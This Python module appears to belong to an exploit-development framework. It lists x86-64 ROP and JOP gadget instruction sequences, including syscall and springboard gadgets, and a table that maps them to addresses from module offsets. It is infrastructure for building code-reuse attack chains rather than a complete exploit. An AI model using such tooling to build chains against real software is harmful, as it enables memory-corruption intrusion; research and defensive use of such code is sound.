from enum import Enum
from Errors import MissingGadget, ProfileError

class Gadget(Enum):
    POP_RAX = 'pop rax; ret'
    POP_RBX = 'pop rbx; ret'
    POP_RCX = 'pop rcx; ret'
    POP_RDX = 'pop rdx; ret'
    POP_RBP = 'pop rbp; ret'
    POP_RSI = 'pop rsi; ret'
    POP_RDI = 'pop rdi; ret'
    POP_RSP = 'pop rsp; ret'
    POP_R8 = 'pop r8; ret'
    POP_R9 = 'pop r9; ret'
    POP_R10 = 'pop r10; ret'
    POP_R11 = 'pop r11; ret'
    POP_R12 = 'pop r12; ret'
    POP_R13 = 'pop r13; ret'
    POP_R14 = 'pop r14; ret'
    POP_R15 = 'pop r15; ret'

    RET = 'ret'
    LEAVE = 'leave; ret'

    NEG_RAX = 'neg rax; ret'
    NEG_RAX_AND_RCX = 'neg rax; and rax, rcx; ret'
    ADC_ESI = 'adc esi, esi; ret'
    ADD_RAX_RDX = 'add rax, rdx; ret'
    ADD_RCX_RSI = 'add rcx, rsi; and rdx, rcx; or rax, rdx; ret'
    MOV_RDX_RCX = 'mov rdx, rcx; ret'
    MOV_RDX_RAX = 'mov rdx, rax; xor eax, eax; shl rdx, cl; ret'
    POP_RDI_JMP = 'pop rdi; jmp qword ptr [rax + 0x1d]'

    STORE_RSI = 'mov qword ptr [rdi], rsi; ret'
    STORE_RAX = 'mov qword ptr [rdi], rax; ret'
    STORE_EAX = 'mov dword ptr [rdi], eax; ret'
    STORE_RCX_RSI = 'mov qword ptr [rsi], rcx; ret'
    LOAD_RAX = 'mov rax, qword ptr [rax]; ret'

    SYSCALL = 'mov r10, rcx; syscall; ret'

    # jop springboards
    JOP1 = 'mov rdi, qword ptr [rdi + 0x30]; mov rax, qword ptr [rdi]; jmp qword ptr [rax + 8]'
    JOP2 = 'push rbp; mov rbp, rsp; mov rax, qword ptr [rdi]; call qword ptr [rax + 0x30]'
    JOP3 = 'mov rdx, qword ptr [rax + 0x18]; mov rax, qword ptr [rdi]; call qword ptr [rax + 0x10]'
    JOP4 = 'push rdx; jmp qword ptr [rax]'
    TA_JOP1 = 'mov rdi, qword ptr [rsi + 0x18]; mov rax, qword ptr [rdi]; call qword ptr [rax + 0xb8]'
    TA_JOP2 = 'pop rsi; jmp qword ptr [rax + 0x60]'
    TA_JOP3 = 'mov rdi, qword ptr [rax + 8]; mov rax, qword ptr [rdi]; jmp qword ptr [rax + 0x68]'

    # routines, not instruction sequences
    SETJMP = 'setjmp'
    LONGJMP = 'longjmp'

    def __str__(self):
        return self.value

    @classmethod
    def parse(cls, text):
        try:
            return cls(text)
        except ValueError:
            raise ProfileError("unknown gadget: {!r}".format(text))

# sysv integer argument registers: rdi, rsi, rdx, rcx, r8, r9
ARG_GADGETS = [Gadget.POP_RDI, Gadget.POP_RSI, Gadget.POP_RDX, Gadget.POP_RCX,
               Gadget.POP_R8, Gadget.POP_R9]

class GadgetTable(object):
    def __init__(self, addrs):
        self._addrs = dict(addrs)
        self._names = dict()
        for gadget, addr in self._addrs.items():
            self._names[int(addr)] = gadget

    @classmethod
    def from_offsets(cls, bases, offsets):
        addrs = dict()
        for gadget, (module, offset) in offsets.items():
            if module not in bases:
                raise ProfileError("no base for module {} ({})".format(module, gadget))
            addrs[gadget] = bases[module].add(offset)
        return cls(addrs)

    def __getitem__(self, gadget):
        try:
            return self._addrs[gadget]
        except KeyError:
            raise MissingGadget(gadget)

    def __contains__(self, gadget):
        return gadget in self._addrs

    def __len__(self):
        return len(self._addrs)

    def require(self, *gadgets):
        for gadget in gadgets:
            if gadget not in self._addrs:
                raise MissingGadget(gadget)

    def name_of(self, addr):
        return self._names.get(int(addr))
